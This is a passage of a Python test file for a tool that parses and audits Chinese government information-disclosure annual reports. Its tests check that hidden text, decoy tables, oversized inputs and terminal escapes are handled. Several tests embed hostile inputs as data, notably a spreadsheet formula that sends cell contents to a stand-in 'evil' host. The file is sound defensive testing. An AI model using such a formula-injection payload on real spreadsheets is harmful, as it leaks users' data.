        ("3<span style='display:none'>99</span>7", "37"),
        ("3<span hidden>99</span>7", "37"),
        ("3<span style='width:0'>9</span>7", "397"),  # a zero width alone: still seen
    ],
    ids=["display:none", "hidden", "zero width only"],
)
def test_hidden_text_in_a_cell_is_not_read(cell: str, raw: str) -> None:
    table = _REAL.replace("<td>2</td>", f"<td>{cell}</td>")
    record = g.read_html((_SEEN_HEAD + table + "</body></html>").encode())
    found = record.cell(("proactive", "regulations", "issued"))
    assert found is not None
    assert found.raw == raw


def _with_parts(n: int) -> AnnualReport:
    from govinfo_report.model import Narrative, Part  # noqa: PLC0415

    parts = tuple(Part(title=f"第{i}项工作", paragraphs=(f"内容{i}。",)) for i in range(1, n + 1))
    return AnnualReport(organ="某县", year=2023, overview=Narrative(parts=parts))


def test_99_parts_round_trip_and_100_are_refused() -> None:
    from govinfo_report.model import MAX_PARTS  # noqa: PLC0415

    report = _with_parts(MAX_PARTS)
    assert g.read_docx(g.docx_bytes(report)).to_report() == report
    with pytest.raises(ReportError) as err:
        _with_parts(MAX_PARTS + 1)
    assert [f.code for f in err.value.findings] == ["S-LIMIT"]
    data = _doc()
    data["overview"]["parts"] = [{"title": "x", "paragraphs": []}] * (MAX_PARTS + 1)
    assert [(f.code, f.place.path) for f in check(data)] == [("S-LIMIT", "$.overview.parts")]


# --- presentation: CSV, terminal, language -----------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil/?x="&A1,"x")', '\'=HYPERLINK("http://evil/?x="&A1,"x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),
        ("12.50", "12.50"),
        ("规章", "规章"),
        (3, 3),
    ],
)
def test_csv_cells_never_start_a_formula(value: object, written: object) -> None:
    from govinfo_report.cli._common import csv_safe  # noqa: PLC0415

    assert csv_safe(value) == written


def test_read_cells_and_audit_csv_are_neutralised(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil/?x="&A1,"x")'
    page = tmp_path / "page.html"
    table = _REAL.replace("<td>2</td>", f"<td>{evil}</td>")
    page.write_bytes((_SEEN_HEAD + table + "</body></html>").encode())
    for argv in (["read", "--cells", str(page)], ["audit", "--format", "csv", str(page)]):
        _, out, _ = _cli(*argv)
        assert "HYPERLINK" in out
        cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert "'" + evil in cells or any(c.startswith("'=HYPERLINK") for c in cells)


def test_terminal_output_escapes_control_characters(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    title = "某县\x1b[2J\x1b[31m2023年政府信息公开工作年度报告"
    page.write_bytes(f"<html><body><h1>{title}</h1><p>\u202e反向</p></body></html>".encode())
    for argv in (["read", str(page)], ["audit", str(page)]):
        _, out, err = _cli(*argv)
        assert "\x1b" not in out + err
        assert "\u202e" not in out + err


def test_errors_printed_by_run_follow_lang(tmp_path: Path) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text("{", encoding="utf-8")
    target = tmp_path / "x.docx"
    _, _, err_en = _cli("render", str(bad), "-o", str(target), "--lang", "en")
    assert err_en
    assert not any("\u4e00" <= ch <= "\u9fff" for ch in err_en.replace(str(tmp_path), ""))


@pytest.mark.parametrize("suffix", [".doc", ".wps", ".docx"])
def test_old_or_encrypted_word_files_say_to_save_as_docx(suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f"report{suffix}"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 4)
    with pytest.raises(ReadError, match=r"save it as \.docx"):
        g.read(path)
    with pytest.raises(ReadError, match=r"save it as \.docx"):
        g.read_docx(path)


def test_a_page_with_two_reports_is_refused_not_half_read() -> None:
    from pathlib import Path  # noqa: PLC0415

    page = (
        (Path(__file__).parent / "data" / "published" / "city-department-2023.gbk.html")
        .read_bytes()
        .decode("gbk")
    )
    start = page.index(">", page.index("<body")) + 1
    end = page.index("</body>")
    assert g.read_html(page).cells  # one report: read
    # another year's report after it (its text differs; its tables are the same)
    two = page[:end] + page[start:end].replace("2023年", "2022年") + page[end:]
    with pytest.raises(ReadError, match="more than one annual report"):
        g.read_html(two)
    # the same report twice (a responsive page's copies): one report
    twice = page[:end] + page[start:end] + page[end:]
    assert g.read_html(twice).to_report() == g.read_html(page).to_report()
    text = g.read_text(BLANK_TEXT)
    assert text.organ == "某县"
    with pytest.raises(ReadError, match="more than one annual report"):
        g.read_text(BLANK_TEXT + "\n" + BLANK_TEXT)


BLANK_TEXT = (
    "某县2023年政府信息公开工作年度报告\n"
    "一、总体情况\n本机关认真贯彻落实。\n"
    "二、主动公开政府信息情况\n\t第二十条第（一）项\n\n\t规章\t1\t0\t4\n\t行政规范性文件\t2\t0\t3\n\n"
    "\t第二十条第（五）项\n\n\t行政许可\t5\n\n\t第二十条第（六）项\n\n\t行政处罚\t6\n\t行政强制\t7\n\n"
    "\t第二十条第（八）项\n\n\t行政事业性收费\t8\n\n"
    "三、收到和处理政府信息公开申请情况\n"
    "四、政府信息公开行政复议、行政诉讼情况\n"
    "五、存在的主要问题及改进情况\n无。\n"
    "六、其他需要报告的事项\n无。\n"
)


@pytest.mark.parametrize("reader", [g.read_text, g.read_html], ids=["read_text", "read_html"])
def test_a_file_name_given_as_content_is_refused(
    reader: Callable[[str], object], tmp_path: Path
) -> None:
    path = tmp_path / "report.txt"
    path.write_text(BLANK_TEXT, encoding="utf-8")
    with pytest.raises(ReadError, match=r"is a file name, not content: pass pathlib\.Path"):
        reader(str(path))
    assert g.read_text(path).organ == "某县"  # a Path is read as a file


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "utf-16"])
def test_expected_units_in_any_usual_encoding(encoding: str, tmp_path: Path) -> None:
    from govinfo_report.cli.many import _expected_units  # noqa: PLC0415

    units = tmp_path / "units.txt"
    units.write_bytes("甲镇人民政府\n乙镇人民政府\n".encode(encoding))
    assert _expected_units(str(units)) == ["甲镇人民政府", "乙镇人民政府"]


@pytest.mark.parametrize(
    ("data", "shown"),
    [(None, "found null"), ([1, 2], "found [1, 2]"), ("x", 'found "x"'), (3, "found 3")],
)
def test_a_document_that_is_no_object_is_spelled_as_json(data: object, shown: str) -> None:
    (finding,) = check(data)
    assert (finding.code, finding.place.path) == ("S-TYPE", "$")
    assert shown in finding.message_en


# --- a visible decoy table: the report's own table wins ------------------------------------

_CITY = (
    (Path(__file__).parent / "data" / "published" / "city-department-2023.gbk.html")
    .read_bytes()
    .decode("gbk")
)


def _city_at(where: str) -> int:
    """Where in the city page a decoy is put (an index into its markup)."""
    body = _CITY.index(">", _CITY.index("<body")) + 1
    heading_two = _CITY.rfind("<p ", 0, _CITY.index("二、主动公开政府信息情况"))
    table_two = _CITY.index("<div align=center><table", heading_two)
    after_three = _CITY.index("</p>", _CITY.index("三、收到和处理政府信息公开申请情况")) + 4
    return {
        "a sidebar before the article": body,
        "a sidebar after the article": _CITY.index("<div class=footer>"),
        "in the article, before section 二": heading_two,
        "in section 二, before the report's table": table_two,
        "in section 三": after_three,
    }[where]


def _table_two(figure: str) -> str:
    """A complete copy of the page's table 二 with every figure replaced by ``figure``."""
    start = _CITY.index("<table", _CITY.index("二、主动公开政府信息情况"))
    end = _CITY.index("</table>", start) + len("</table>")
    return re.sub(r">\s*\d+(?:\.\d+)?\s*<", f">{figure}<", _CITY[start:end])


_ONE_ROW = "<table><tr><td>规章</td><td>999</td><td>0</td><td>999</td></tr></table>"
_DECOYS = {
    "one row": _ONE_ROW,
    "one row with its group": (
        "<table><tr><td>第二十条第（一）项</td></tr>"
        "<tr><td>规章</td><td>999</td><td>0</td><td>999</td></tr></table>"
    ),
    "a complete copy with other figures": _table_two("999"),
}


def _values(record: g.PublishedReport) -> dict[tuple[str, ...], object]:
    return {c.key: c.value for c in record.cells}


@pytest.mark.parametrize("decoy", list(_DECOYS), ids=list(_DECOYS))
@pytest.mark.parametrize(
    "where",
    [
        "a sidebar before the article",
        "a sidebar after the article",
        "in the article, before section 二",
        "in section 三",
    ],
)
def test_a_visible_decoy_table_never_wins(where: str, decoy: str) -> None:
    at = _city_at(where)
    page = _CITY[:at] + f"<div class=sidebar>{_DECOYS[decoy]}</div>" + _CITY[at:]
    real = g.read_html(_CITY)
    record = g.read_html(page)
    assert _values(record) == _values(real)
    why = "outside the report's article" if "sidebar" in where else "another table gives"
    noted = [f for f in record.findings if f.code == "R-UNREAD" and why in f.message_en]
    assert "999" in {f.found for f in noted}  # the decoy's figures are noted, never used
    assert g.is_consistent(record) == g.is_consistent(real)
    assert record.to_report() == real.to_report()


@pytest.mark.parametrize("decoy", ["one row", "one row with its group"])
def test_a_partial_decoy_in_the_right_section_loses_to_the_complete_table(decoy: str) -> None:
    at = _city_at("in section 二, before the report's table")
    record = g.read_html(_CITY[:at] + _DECOYS[decoy] + _CITY[at:])
    assert _values(record) == _values(g.read_html(_CITY))


def test_two_complete_tables_in_one_section_are_an_error_not_a_guess(tmp_path: Path) -> None:
    at = _city_at("in section 二, before the report's table")
    page = tmp_path / "page.html"
    page.write_text(_CITY[:at] + _table_two("999") + _CITY[at:], encoding="utf-8")
    record = g.read(page)
    errors = [f for f in record.findings if f.severity is Severity.ERROR]
    assert errors
    assert all(f.code == "R-UNREAD" for f in errors)
    assert "cannot be told" in errors[0].message_en
    assert not g.is_consistent(record)
    with pytest.raises(ReportError):
        record.to_report()
    code, _, _ = _cli("audit", str(page))
    assert code == 1


# --- hidden by a style: .docx character and paragraph styles -------------------------------

_STYLES = (
    f'<w:styles xmlns:w="{_W}">'
    '<w:style w:type="character" w:styleId="Secret"><w:rPr><w:vanish/></w:rPr></w:style>'
    '<w:style w:type="character" w:styleId="SecretToo"><w:basedOn w:val="Secret"/></w:style>'
    '<w:style w:type="character" w:styleId="Shown"><w:basedOn w:val="Secret"/>'
    '<w:rPr><w:vanish w:val="0"/></w:rPr></w:style>'
    '<w:style w:type="character" w:styleId="Spec"><w:rPr><w:specVanish/></w:rPr></w:style>'
    '<w:style w:type="paragraph" w:styleId="HiddenPara"><w:rPr><w:vanish/></w:rPr></w:style>'
    '<w:style w:type="paragraph" w:styleId="HiddenChild"><w:basedOn w:val="HiddenPara"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Loop1"><w:basedOn w:val="Loop2"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Loop2"><w:basedOn w:val="Loop1"/></w:style>'
    "</w:styles>"
)


def _run(text: str, style: str | None = None, *, vanish: str | None = None) -> str:
    props = f'<w:rStyle w:val="{style}"/>' if style else ""
    if vanish is not None:
        props += f'<w:vanish w:val="{vanish}"/>'
    return f"<w:r>{f'<w:rPr>{props}</w:rPr>' if props else ''}<w:t>{text}</w:t></w:r>"


# (case, paragraph style, runs after a visible "37", what is read)
STYLED_RUNS = [
    ("a character style with w:vanish", None, _run("99", "Secret"), "37"),
    ("a character style based on one", None, _run("99", "SecretToo"), "37"),
    ("a character style switching it off", None, _run("9", "Shown"), "379"),
    ("a character style with w:specVanish", None, _run("99", "Spec"), "37"),
    ("the run's own w:vanish=0 beats its style", None, _run("9", "Secret", vanish="0"), "379"),
    ("an unknown character style", None, _run("9", "NoSuchStyle"), "379"),
    ("a paragraph style with w:vanish", "HiddenPara", _run("99"), ""),
    ("a paragraph style based on one", "HiddenChild", _run("99"), ""),
    ("a run shown in a hidden paragraph style", "HiddenPara", _run("9", "Shown"), "9"),
    ("a loop of w:basedOn", "Loop1", _run("9"), "379"),
]


@pytest.mark.parametrize(
    ("pstyle", "runs", "text"), [c[1:] for c in STYLED_RUNS], ids=[c[0] for c in STYLED_RUNS]
)
def test_docx_styles_hide_text(pstyle: str | None, runs: str, text: str) -> None:
    from govinfo_report.published.readers.docx import _styles, _text  # noqa: PLC0415

    ppr = f'<w:pPr><w:pStyle w:val="{pstyle}"/></w:pPr>' if pstyle else ""
    p = etree.fromstring(f'<w:p xmlns:w="{_W}">{ppr}{_run("37")}{runs}</w:p>')
    assert _text(p, styles=_styles(etree.fromstring(_STYLES))) == text


def test_docx_default_hidden_text_is_hidden() -> None:
    from govinfo_report.published.readers.docx import _styles, _text  # noqa: PLC0415

    styles = _styles(
        etree.fromstring(
            f'<w:styles xmlns:w="{_W}"><w:docDefaults><w:rPrDefault><w:rPr><w:vanish/>'
            "</w:rPr></w:rPrDefault></w:docDefaults></w:styles>"
        )
    )
    p = etree.fromstring(f'<w:p xmlns:w="{_W}">{_run("99")}{_run("37", vanish="0")}</w:p>')
    assert _text(p, styles=styles) == "37"


def test_a_docx_cell_hidden_by_its_style_is_read_as_seen() -> None:
    cell = "<w:tc><w:p>{}</w:p></w:tc>"
    body = (
        "<w:p><w:r><w:t>某县2023年政府信息公开工作年度报告</w:t></w:r></w:p>"
        "<w:p><w:r><w:t>二、主动公开政府信息情况</w:t></w:r></w:p><w:tbl><w:tr>"
        + cell.format(_run("规章"))
        + cell.format(_run("3") + _run("99", "Secret") + _run("7"))
        + cell.format(_run("0"))
        + cell.format(_run("5"))
        + "</w:tr></w:tbl>"
        '<w:p><w:pPr><w:pStyle w:val="HiddenPara"/></w:pPr>'
        "<w:r><w:t>三、收到和处理政府信息公开申请情况</w:t></w:r></w:p>"
    )
    document = f'<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
    data = _rezip(
        BLANK,
        {"word/document.xml": document.encode(), "word/styles.xml": _STYLES.encode()},
    )
    record = g.read_docx(data)
    found = record.cell(("proactive", "regulations", "issued"))
    assert found is not None
    assert found.raw == "37"
    assert "requests" not in {s.key for s in record.sections}  # its heading is hidden


# --- hidden by a style sheet: a web page's <style> rules -----------------------------------


def _styled_cell(css: str, span: str = "<span class=x id=y>99</span>") -> str | None:
    """The 规章 cell's text on a page with ``css`` in its <style>, 99 in ``span``."""
    table = _REAL.replace("<td>2</td>", f"<td>3{span}7</td>")
    page = f"<html><head><style>{css}</style></head>{_SEEN_HEAD.removeprefix('<html>')}"
    record = g.read_html((page + table + "</body></html>").encode())
    cell = record.cell(("proactive", "regulations", "issued"))
    return None if cell is None else cell.raw


# (case, style sheet, the cell read: 37 when the 99 is hidden)
STYLE_SHEETS = [
    ("a class", ".x{display:none}", "37"),
    ("an id", "#y { display : none }", "37"),
    ("a type and a class", "span.x{display:none}", "37"),
    ("two classes", ".x.z{display:none}", "37"),
    ("a selector list", "p, .x {display:none}", "37"),
    ("a descendant", "table td .x{display:none}", "37"),
    ("a child", "td > span{display:none}", "37"),
    ("visibility:hidden", ".x{visibility:hidden}", "37"),
    ("visibility:collapse", ".x{visibility:collapse}", "37"),
    ("Word's mso-hide", ".x{mso-hide:all}", "37"),
    ("a comment inside", "/* .x{display:block} */ .x{display:/**/none}", "37"),
    ("upper case in the sheet", ".X{DISPLAY:NONE}", "37"),
    ("important over the style attribute", ".x{display:none!important}", "37"),
    ("a later rule shows it again", ".x{display:none} .x{display:inline}", "3997"),
    ("an id beats a class", "#y{display:inline} .x{display:none}", "3997"),
    ("important beats an id", "#y{display:inline} .x{display:none !important}", "37"),
    ("another class", ".w{display:none}", "3997"),
    ("a descendant of something else", "li .x{display:none}", "3997"),
    ("a child of something else", "div > .x{display:none}", "3997"),
    ("inside @media print", "@media print { .x{display:none} } .q{color:red}", "3997"),
    ("a pseudo-class", ".x:hover{display:none}", "3997"),
    ("visibility:visible", ".x{visibility:visible}", "3997"),
]


@pytest.mark.parametrize(
    ("css", "raw"), [c[1:] for c in STYLE_SHEETS], ids=[c[0] for c in STYLE_SHEETS]
)
def test_html_style_sheets_hide_text(css: str, raw: str) -> None:
    span = "<span class='x z' id=y>99</span>"
    if "style attribute" in css or "important over" in css:
        span = "<span class='x z' id=y style='display:inline'>99</span>"
    assert _styled_cell(css, span) == raw


def test_the_style_attribute_beats_a_plain_rule() -> None:
    span = "<span class=x style='display:inline'>99</span>"
    assert _styled_cell(".x{display:none}", span) == "3997"
    assert _styled_cell(".x{display:none !important}", span) == "37"


@pytest.mark.parametrize("hiding", [".decoy{display:none}", "#d{visibility:hidden}"])
def test_a_decoy_table_hidden_by_a_style_sheet_is_not_read(hiding: str) -> None:
    page = (
        f"<html><head><style>{hiding}</style></head>"
        + _SEEN_HEAD.removeprefix("<html>")
        + _DECOY.format("class=decoy id=d")
        + _REAL
        + "</body></html>"
    )
    record = g.read_html(page.encode())
    assert [(c.key[-1], c.raw) for c in record.cells][:3] == [
        ("issued", "2"),
        ("repealed", "0"),
        ("in_force", "5"),
    ]
    assert not [f for f in record.findings if f.code == "R-UNREAD"]  # not seen: not read


def test_style_sheets_past_their_bounds_are_refused() -> None:
    from govinfo_report.published.readers._css import (  # noqa: PLC0415
        MAX_CSS_CHARS,
        MAX_CSS_RULES,
        MAX_CSS_STEPS,
    )

    big = ".x{display:none}" + " " * MAX_CSS_CHARS
    with pytest.raises(ReadError, match="style sheets are too large"):
        _styled_cell(big)
    many = "".join(f".c{i}{{display:none}}" for i in range(MAX_CSS_RULES + 1))
    with pytest.raises(ReadError, match=f"more than {MAX_CSS_RULES}"):
        _styled_cell(many)
    spans = "<span class=x>x</span>" * 5000
    rules = "".join(f"li.n{i} .x{{display:none}}" for i in range(50))  # 50 rules x 5000 spans
    with pytest.raises(ReadError, match=f"over {MAX_CSS_STEPS} steps"):
        _styled_cell(rules, spans)
    deep = "<div>" * 200 + "<span>x</span>" * 2000 + "</div>" * 200
    rule = "li div div div div div div div div div span{display:none}"  # no li: all fail
    assert _styled_cell(rule, deep) == "3" + "x" * 2000 + "7"  # each ancestor looked at once


# --- the JSON Schema and the loader on the reproductions of issue 10, section 5 ------------

# (case, where, the JSON token there, the schema accepts, the loader accepts)
SCHEMA_CASES: list[tuple[str, tuple[str, ...], str, bool, bool]] = [
    ("fees as the number 12.35 (documented)", ("proactive", "fees"), "12.35", True, True),
    ("fees as the string 12.35", ("proactive", "fees"), '"12.35"', True, True),
    ("fees with 11 digits after the point", ("proactive", "fees"), '"0.12345678901"', False, False),
    ("fees with 19 digits", ("proactive", "fees"), '"1234567890123456789"', False, False),
    ("negative fees", ("proactive", "fees"), "-0.5", False, False),
    ('"requests": {}', ("requests",), "{}", False, False),
    ("a row of cells as {}", ("requests", "new"), "{}", False, False),
    ("an empty organ", ("organ",), '""', False, False),
    ("an organ of U+200B", ("organ",), '"\\u200b"', False, False),
    ("an empty title", ("title",), '""', False, False),
    ("a title of spaces", ("title",), '"\\u3000 "', False, False),
    (
        "a count past the maximum",
        ("requests", "new", "natural_person"),
        "1000000000000",
        False,
        False,
    ),
    ("a count of 400 digits", ("requests", "new", "natural_person"), "9" * 400, False, False),
    ("a month 13", ("date",), '"2023-13-01"', False, False),
    # what JSON Schema cannot say (docs/limits.md): the loader alone refuses these
    ("a count written 1.0", ("requests", "new", "natural_person"), "1.0", True, False),
    ("fees of 11 digits as a JSON number", ("proactive", "fees"), "0.12345678901", True, False),
]


@pytest.mark.parametrize(
    ("where", "token", "schema_ok", "loads_ok"),
    [c[1:] for c in SCHEMA_CASES],
    ids=[c[0] for c in SCHEMA_CASES],
)
def test_schema_and_loader_on_the_reported_cases(
    where: tuple[str, ...], token: str, *, schema_ok: bool, loads_ok: bool
) -> None:
    from jsonschema import Draft202012Validator  # noqa: PLC0415

    from govinfo_report.formats.json.schema import json_schema  # noqa: PLC0415

    data = _doc()
    node = data
    for step in where[:-1]:
        node = node[step]
    node[where[-1]] = "__value__"
    text = json.dumps(data, ensure_ascii=False).replace('"__value__"', token)
    validator = Draft202012Validator(json_schema())
    assert (not list(validator.iter_errors(json.loads(text)))) is schema_ok
    try:
        loads(text)
    except ReportError:
        accepted = False
    else:
        accepted = True
    assert accepted is loads_ok


def test_a_control_character_entity_in_a_page_fails_audit_and_to_report() -> None:
    page = _CITY.replace("<h1 class=title>某市自然资源", "<h1 class=title>某市自然资源&#1;")
    record = g.read_html(page)
    errors = {f.place.path for f in g.audit(record) if f.severity is Severity.ERROR}
    assert {"$.organ", "$.title"} <= errors
    with pytest.raises(ReportError) as err:
        record.to_report()
    assert {"$.organ", "$.title"} <= {f.place.path for f in err.value.findings}


_BAD_DOCUMENTS = [c for c in JSON_CASES if c[0] != "mixed key types"]  # JSON keys are strings


@pytest.mark.parametrize(
    "mutate", [c[1] for c in _BAD_DOCUMENTS], ids=[c[0] for c in _BAD_DOCUMENTS]
)
def test_one_hostile_file_never_stops_a_batch(
    mutate: Callable[[dict[str, Any]], None], tmp_path: Path
) -> None:
    units = tmp_path / "units"
    units.mkdir()
    (units / "a.json").write_text(dumps(REPORT), encoding="utf-8")
    bad = _doc()
    mutate(bad)
    (units / "b.json").write_text(json.dumps(bad, ensure_ascii=False), encoding="utf-8")
    total = tmp_path / "total.json"
    code, out, err = _cli(
        "aggregate", str(units), "-o", str(total), "--organ", "某县", "--lang", "en"
    )
    assert code == 1, err
    assert "summed 1 reports for 2023" in out
    assert loads(total.read_bytes()).requests == REPORT.requests
    code, out, _ = _cli("audit", str(units), "--lang", "en")
    assert code == 1
    assert "total: 2 files, 1 sound, 1 not sound, 0 unreadable" in out
    code, out, err = _cli("compare", str(units / "a.json"), str(units / "b.json"))
    assert code == 1, (out, err)
    code, _, _ = _cli("check", str(units / "b.json"))
    assert code == 1


def _link_to_dev_null(path: Path) -> Path:
    path.symlink_to("/dev/null")
    return path


# /dev/null itself has no suffix to name a format (refused for that); a link named .docx
# to it is written through, to a device: refused
_RENDER_TARGETS = [
    ("a link to /dev/null", _link_to_dev_null, "not a regular file"),
    *(c for c in REFUSED_TARGETS if c[0] not in ("an empty path", "/dev/null")),
]


@pytest.mark.parametrize(
    ("make", "says"), [c[1:] for c in _RENDER_TARGETS], ids=[c[0] for c in _RENDER_TARGETS]
)
def test_render_refuses_a_target_that_is_no_regular_file(
    make: Callable[[Path], Path], says: str, tmp_path: Path
) -> None:
    source = tmp_path / "in.json"
    source.write_text(dumps(REPORT), encoding="utf-8")
    target = make(tmp_path / "out.docx")
    before = target.lstat()
    code, out, err = _cli("render", str(source), "-o", str(target), "--lang", "en")
    assert code == 2
    assert says in err
    assert "wrote" not in out
    after = target.lstat()
    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)


def _chain_of_styles(n: int) -> bytes:
    first = '<w:style w:type="character" w:styleId="s0"><w:rPr><w:vanish/></w:rPr></w:style>'
    rest = "".join(
        f'<w:style w:type="character" w:styleId="s{i}"><w:basedOn w:val="s{i - 1}"/></w:style>'
        for i in range(1, n)
    )
    return f'<w:styles xmlns:w="{_W}">{first}{rest}</w:styles>'.encode()


def _styled_document(style: str) -> bytes:
    run = f'<w:r><w:rPr><w:rStyle w:val="{style}"/></w:rPr><w:t>99</w:t></w:r>'
    body = (
        "<w:p><w:r><w:t>某县2023年政府信息公开工作年度报告</w:t></w:r></w:p>"
        f"<w:p><w:r><w:t>二、主动公开政府信息情况</w:t></w:r>{run}</w:p>"
    )
    return f'<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'.encode()


def test_a_long_chain_of_styles_is_resolved_once_and_a_huge_one_refused() -> None:
    from govinfo_report.published.readers.docx import MAX_STYLE_ELEMENTS  # noqa: PLC0415

    n = MAX_STYLE_ELEMENTS // 4
    data = _rezip(
        BLANK,
        {
            "word/document.xml": _styled_document(f"s{n - 1}"),
            "word/styles.xml": _chain_of_styles(n),
        },
    )
    record = g.read_docx(data)  # the heading's hidden "99" is not read: the heading is seen
    assert [(s.key, s.heading) for s in record.sections] == [
        ("proactive", "二、主动公开政府信息情况")
    ]
    huge = _rezip(BLANK, {"word/styles.xml": _chain_of_styles(MAX_STYLE_ELEMENTS)})
    with pytest.raises(ReadError, match="XML elements"):
        g.read_docx(huge)


# --- the limits page lists every bound; CI type-checks everything ---------------------------

_BOUNDS = [
    ("govinfo_report.rules.catalogue", "MAX_COUNT"),
    ("govinfo_report.model", "MAX_ITEMS"),
    ("govinfo_report.model", "MAX_PARTS"),
    ("govinfo_report.findings", "MAX_FINDINGS"),
    ("govinfo_report.published.readers._limits", "MAX_ROW_CELLS"),
    ("govinfo_report.published.readers._limits", "MAX_TABLE_CELLS"),
    ("govinfo_report.published.readers._limits", "MAX_GRID_AREA"),
    ("govinfo_report.published.readers._interpret", "MAX_FUZZY"),
    ("govinfo_report.published.readers.docx", "MAX_DOCX_ELEMENTS"),
    ("govinfo_report.published.readers.docx", "MAX_STYLE_ELEMENTS"),
    ("govinfo_report.published.readers._css", "MAX_CSS_CHARS"),
    ("govinfo_report.published.readers._css", "MAX_CSS_RULES"),
    ("govinfo_report.published.readers._css", "MAX_CSS_STEPS"),
    ("govinfo_report._io", "MAX_INPUT_BYTES"),
    ("govinfo_report.formats.json.codec", "MAX_JSON_SIZE"),
    ("govinfo_report.published.readers._limits", "MAX_CHARS"),
    ("govinfo_report.published.readers._limits", "MAX_LINES"),
    ("govinfo_report.published.readers._limits", "MAX_ELEMENTS"),
    ("govinfo_report.published.readers.docx", "MAX_ENTRIES"),
    ("govinfo_report.published.readers.docx", "MAX_TOTAL"),
    ("govinfo_report.published.readers.docx", "MAX_RATIO"),
    ("govinfo_report.published.readers.pdf", "MAX_PAGES"),
    ("govinfo_report.published.readers.pdf", "MAX_OBJECTS"),
    ("govinfo_report.published.readers.pdf", "MAX_STREAM"),
    ("govinfo_report.published.readers.pdf", "MAX_STREAMS_TOTAL"),
    ("govinfo_report.published.readers.pdf", "MAX_PAGE_CONTENT"),
    ("govinfo_report.published.readers.pdf", "MAX_SECONDS"),
    ("govinfo_report.published.readers.xlsx", "MAX_CELLS"),
    ("govinfo_report.published.readers.xlsx", "MAX_SHEETS"),
]


@pytest.mark.parametrize(("module", "name"), _BOUNDS, ids=[b[1] for b in _BOUNDS])
def test_the_limits_page_lists_every_bound(module: str, name: str) -> None:
    import importlib  # noqa: PLC0415

    value = getattr(importlib.import_module(module), name)
    page = (Path(__file__).parents[1] / "docs" / "limits.md").read_text(encoding="utf-8")
    line = next((line for line in page.splitlines() if f"`{name}`" in line), "")
    value = int(value)  # MAX_SECONDS is a float
    shown = f"{value // 2**20} MB" if value % 2**20 == 0 and value >= 2**20 else f"{value:,}"
    assert shown in line, f"docs/limits.md: no line naming {name} with {shown}"


def test_ci_type_checks_everything_the_configuration_names() -> None:
    import tomllib  # noqa: PLC0415

    root = Path(__file__).parents[1]
    config = tomllib.loads((root / "pyproject.toml").read_text(encoding="utf-8"))
    assert config["tool"]["mypy"]["files"] == ["src", "tests", "examples", "benchmarks"]
    assert "mypy" in (root / ".ci" / "run").read_text(encoding="utf-8").splitlines()


@pytest.mark.parametrize("kind", [bytes, str])
def test_a_json_document_past_its_bound_is_refused_before_parsing(kind: type) -> None:
    from govinfo_report.formats.json.codec import MAX_JSON_SIZE  # noqa: PLC0415

    items = (MAX_JSON_SIZE - 200) // 2
    text = dumps(REPORT).replace('"opening": []', '"opening": [' + "1," * items + "1]", 1)
    assert len(text) > MAX_JSON_SIZE
    with pytest.raises(ReadError, match="larger than 16 MB"):
        loads(text.encode() if kind is bytes else text)
